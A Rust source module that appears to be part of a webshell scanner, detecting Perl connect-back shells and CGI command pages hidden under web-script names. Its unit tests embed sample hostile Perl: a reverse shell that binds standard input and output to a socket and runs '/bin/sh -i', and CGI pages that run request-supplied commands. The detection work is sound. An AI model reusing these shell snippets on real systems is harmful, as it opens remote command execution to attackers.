//! Perl shells kept under a web script's name (`x.php`, `x.asp`): a CGI command page or a
//! connect-back shell, left where the web server or a cron job will start it. Only files
//! whose first line is a Perl `#!` are read this way.

use crate::Hit;
use crate::heuristics::{find, near};
use firewarden_model::Severity;

/// Whether the (lowercased) file starts as a Perl script does: `#!…perl` on its first line.
fn is_perl(t: &str) -> bool {
    t.strip_prefix("#!")
        .and_then(|r| r.lines().next())
        .is_some_and(|first| first.contains("perl"))
}

/// How a Perl script reads what a CGI request sent.
const CGI_INPUT: &[&str] = &[
    "$env{'query_string'}",
    "$env{\"query_string\"}",
    "$env{query_string}",
    "$env{'content_length'}",
    "$env{content_length}",
    "param(",
    "$param{",
    "read(stdin",
];

/// The Perl checks; `t` is the lowercased script.
pub(crate) fn scan(t: &str, hits: &mut Vec<Hit>) {
    if !is_perl(t) {
        return;
    }
    let socket = find(t, "socket(").or_else(|| find(t, "io::socket"));
    // `open(STDIN, ">&SOCKET")`: the process's own input and output become the connection.
    let redirected = ["open(stdin", "open (stdin", "open(stdout", "open (stdout"]
        .iter()
        .filter_map(|o| find(t, o))
        .find(|&p| {
            near(&t[p..], 256)
                .split(')')
                .next()
                .is_some_and(|a| a.contains(">&"))
        });
    if let (Some(_), Some(at)) = (socket, redirected)
        && (find(t, "system(").is_some()
            || find(t, "exec(").is_some()
            || find(t, "exec ").is_some())
    {
        hits.push(hit(
            "Perl connect-back shell",
            "a Perl script opens a network socket, points its standard input and output at it and starts a shell: whoever is at the other end types the commands".into(),
            at,
        ));
        return;
    }
    let Some(input) = CGI_INPUT.iter().find(|i| find(t, i).is_some()) else {
        return;
    };
    if let Some((at, how)) = runs_variable(t) {
        hits.push(hit(
            "Perl CGI command page",
            format!(
                "a Perl CGI script reads the request (`{input}`) and runs a command held in a variable ({how}): a command shell in a web page"
            ),
            at,
        ));
    }
}

/// Where the script runs a command built from a variable: `` `$cmd` ``, `qx(…$x…)`, a pipe
/// opened on `"…$x…|"`, or `system`/`exec` of a variable.
fn runs_variable(t: &str) -> Option<(usize, &'static str)> {
    for (p, _) in t.match_indices('`').take(2000) {
        if t[p + 1..].starts_with('$')
            && t[p + 1..]
                .split('`')
                .next()
                .is_some_and(|c| !c.contains('\n'))
        {
            return Some((p, "backticks"));
        }
    }
    for (p, _) in t.match_indices("qx").take(200) {
        let rest = &t[p + 2..];
        if !t[..p].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            && rest.starts_with(['(', '{', '/', '|'])
            && near(&rest[1..], 512)
                .split(['\n', ')', '}'])
                .next()
                .is_some_and(|c| c.contains('$'))
        {
            return Some((p, "`qx`"));
        }
    }
    for (p, _) in t.match_indices("open").take(500) {
        let rest = t[p + 4..].trim_start();
        let Some(args) = rest.strip_prefix('(') else {
            continue;
        };
        let args = near(args, 4096).split(['\n', ';']).next().unwrap_or("");
        // `open(FH, "cd $dir && $cmd|")`: a pipe from a command with a variable in it.
        if let Some(quoted) = args.split('"').nth(1)
            && quoted.trim_end().ends_with('|')
            && quoted.contains('$')
        {
            return Some((p, "a pipe opened from a command"));
        }
    }
    for call in ["system", "exec"] {
        for (p, _) in t.match_indices(call).take(500) {
            if t[..p].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$') {
                continue;
            }
            let arg = t[p + call.len()..].trim_start();
            let arg = arg.strip_prefix('(').unwrap_or(arg).trim_start();
            if arg.starts_with('$') || arg.starts_with("\"$") {
                return Some((
                    p,
                    if call == "system" {
                        "`system`"
                    } else {
                        "`exec`"
                    },
                ));
            }
        }
    }
    None
}

/// A Perl shell: a webshell (T1505.003) run by the Perl interpreter (T1059.006).
fn hit(title: &str, why: String, offset: usize) -> Hit {
    let mut h = crate::heuristics::hit(
        "scan.heuristic.perl_shell",
        Severity::Critical,
        title,
        why,
        offset,
    );
    h.attack.push("T1059.006".into());
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(page: &str) -> Vec<&'static str> {
        crate::lowered_ids(scan, page)
    }

    #[test]
    fn connect_back_shells() {
        let shell = "#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, 6);\nconnect(S, $addr);\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\nsystem('/bin/sh -i');\n";
        assert_eq!(ids(shell), ["scan.heuristic.perl_shell"]);
        // A client that talks over a socket without handing it a shell.
        let client = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new('mail:25');\nprint $s \"HELO x\\r\\n\";\nsystem('logger sent');\n";
        assert!(ids(client).is_empty());
    }

    #[test]
    fn cgi_command_pages() {
        let pipe = "#!/usr/bin/perl\n&read_param();\nopen(FH, \"cd $param{dir}&&$param{cmd}|\");\nwhile (<FH>) { print; }\n";
        assert_eq!(ids(pipe), ["scan.heuristic.perl_shell"]);
        let ticks = "#!/usr/bin/perl\n$in = $ENV{'QUERY_STRING'};\nprint `$Command`;\n";
        assert_eq!(ids(ticks), ["scan.heuristic.perl_shell"]);
        let sys = "#!/usr/bin/perl -w\nuse CGI;\nmy $c = param('c');\nsystem($c);\n";
        assert_eq!(ids(sys), ["scan.heuristic.perl_shell"]);
        // A CGI page that runs a fixed command, and a script that is not Perl.
        let fixed =
            "#!/usr/bin/perl\nuse CGI;\nmy $n = param('n');\nprint `date`;\nsystem('uptime');\n";
        assert!(ids(fixed).is_empty());
        assert!(ids("<?php\n$in = $ENV{'QUERY_STRING'};\nprint `$c`;\n").is_empty());
    }

    #[test]
    fn hostile_text_is_safe() {
        for page in [
            "#!",
            "#!perl",
            "#!perl\nqx",
            "#!perl\nopen(",
            "#!perl\n`",
            "#!perl\nparam(`$\u{e9}`",
        ] {
            ids(page);
        }
    }
}
